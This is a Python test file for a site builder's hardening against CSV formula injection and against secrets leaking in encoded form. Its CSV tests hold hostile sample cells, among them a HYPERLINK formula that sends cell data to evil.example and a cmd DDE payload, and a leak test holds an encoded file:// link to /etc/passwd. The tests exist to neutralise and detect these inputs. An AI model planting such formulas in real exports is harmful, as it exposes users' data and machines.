"""The smaller hardening gaps of issue 24: CSV cells a spreadsheet would run as formulas,
secrets hidden in encoded forms, editors' files that fail without saying where, and the
DNS results API's idle connections."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import site_builder.build  # noqa: F401  (imports the check package in the order the CLI does)
from site_builder.build.datafiles import FORMULA_STARTS, csv_file
from site_builder.check.leaks import check_leaks

# ------------------------------------------------------------------------------ CSV cells


def parsed(rows: list[dict]) -> list[list[str]]:
    text = b"".join(csv_file(iter(rows))).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_text_cells_that_a_spreadsheet_would_run_are_quoted_as_owasp_recommends() -> None:
    hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
        "\n=1+2",
        "  =cmd|'/c calc'!A1",
    ]
    rows = [{"name": text, "price": 1} for text in hostile]
    _header, *cells = parsed(rows)
    assert [row[0] for row in cells] == ["'" + text for text in hostile]


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row_or_cell() -> None:
    rows = [{"name": "fine\r=1+2", "note": "x"}, {"name": "y", "note": "z"}]
    assert parsed(rows) == [["name", "note"], ["fine\r=1+2", "x"], ["y", "z"]]


def test_csv_numbers_and_harmless_text_are_untouched() -> None:
    rows = [
        {"name": "H100 SXM", "delta": -3.5, "count": -2, "exact": Decimal("-0.10"), "n": None},
        {"name": "a-b = c", "delta": 0.0, "count": 7, "exact": Decimal("1.5"), "n": ""},
        {"name": "'=already quoted", "delta": 1e-9, "count": 0, "exact": Decimal("0"), "n": "x"},
    ]
    assert parsed(rows) == [
        ["name", "delta", "count", "exact", "n"],
        ["H100 SXM", "-3.5", "-2", "-0.10", ""],
        ["a-b = c", "0.0", "7", "1.5", ""],
        ["'=already quoted", "1e-09", "0", "0", "x"],
    ]


def test_csv_header_names_are_neutralised_too() -> None:
    assert parsed([{"=evil": 1}]) == [["'=evil"], ["1"]]


def test_csv_output_is_deterministic_across_chunks() -> None:
    rows = [{"name": f"={i}", "value": -i} for i in range(2_500)]  # more than one chunk
    chunks = list(csv_file(iter(rows)))
    assert len(chunks) > 1
    assert b"".join(chunks) == b"".join(csv_file(iter(rows)))


cell = st.one_of(
    st.text(max_size=12),
    st.text(alphabet="=+-@\t\r\n '\"; ,a1", max_size=8),
    st.integers(),
    st.floats(allow_nan=False),
    st.decimals(allow_nan=False, allow_infinity=False),
    st.none(),
)


@given(st.lists(st.tuples(cell, cell), min_size=1, max_size=20))
def test_no_text_cell_reads_back_as_a_formula(pairs: list[tuple[object, object]]) -> None:
    rows = [{"a": a, "b": b} for a, b in pairs]
    _header, *out = parsed(rows)
    assert len(out) == len(rows)
    for row, read_back in zip(rows, out, strict=True):
        for value, text in zip(row.values(), read_back, strict=True):
            if isinstance(value, str):
                assert text[:1] not in FORMULA_STARTS
                assert text.lstrip()[:1] not in FORMULA_STARTS
                assert text in (value, "'" + value)  # nothing else is changed
            elif value is not None:
                assert text == str(value)  # numbers are written as they are


# ------------------------------------------------------------------------------ leak scan

SECRET = "s3cr3t'T0ken&42"
SECRETS = [("NETLIFY_AUTH_TOKEN", SECRET)]


def hex_entities(text: str) -> str:
    return "".join(f"&#x{ord(c):X};" for c in text)


@pytest.mark.parametrize(
    ("written", "encoding"),
    [
        (hex_entities(SECRET), "HTML entities"),
        ("".join(f"&#{ord(c)}" for c in SECRET), "HTML entities"),  # no semicolons
        ("s3cr3t&#39;T0ken&amp;42", "HTML entities"),  # as Jinja's autoescape writes it
        ("s3cr3t&apos;T0ken&amp;42", "HTML entities"),  # named entities
        ("".join(f"%{b:02x}" for b in SECRET.encode()), "URL encoding"),
        ("s3cr3t%27T0ken%2642", "URL encoding"),
        ("s3cr3t&#37;27T0ken%2642", "HTML entities and URL encoding"),
        ("".join(f"\\u{ord(c):04x}" for c in SECRET), "JSON \\u escapes"),
    ],
)
def test_a_secret_behind_an_encoding_is_found_and_the_encoding_named(
    tmp_path: Path, written: str, encoding: str
) -> None:
    (tmp_path / "page.html").write_text(f"<a href='/x?t={written}'>link</a>")
    problems = check_leaks(tmp_path, SECRETS, [])
    assert problems == [
        f"page.html: contains the value of $NETLIFY_AUTH_TOKEN, written as {encoding}"
    ]
    assert SECRET not in " ".join(problems)


def test_a_plain_secret_is_reported_once_and_encoded_paths_are_found(tmp_path: Path) -> None:
    (tmp_path / "a.html").write_text(f"{SECRET} and {hex_entities(SECRET)}")
    (tmp_path / "b.json").write_text('{"p": "%2Fhome%2Feditor%2Fsite"}')
    (tmp_path / "c.html").write_text("<a href='file&#58;//etc/passwd'>x</a>")
    assert check_leaks(tmp_path, SECRETS, ["/home/editor/site"]) == [
        "a.html: contains the value of $NETLIFY_AUTH_TOKEN",
        "b.json: contains the local path /home/editor/site, written as URL encoding",
        "c.html: contains a file:// URL, written as HTML entities",
    ]


def test_ordinary_escapes_are_not_leaks(tmp_path: Path) -> None:
    (tmp_path / "page.html").write_text(
        "<p>Tom &amp; Jerry &#8211; 100% uptime, 50%25 off, caf\\u00e9, &#x1F600; &bogus;</p>"
    )
    assert check_leaks(tmp_path, SECRETS, ["/home/editor/site"]) == []
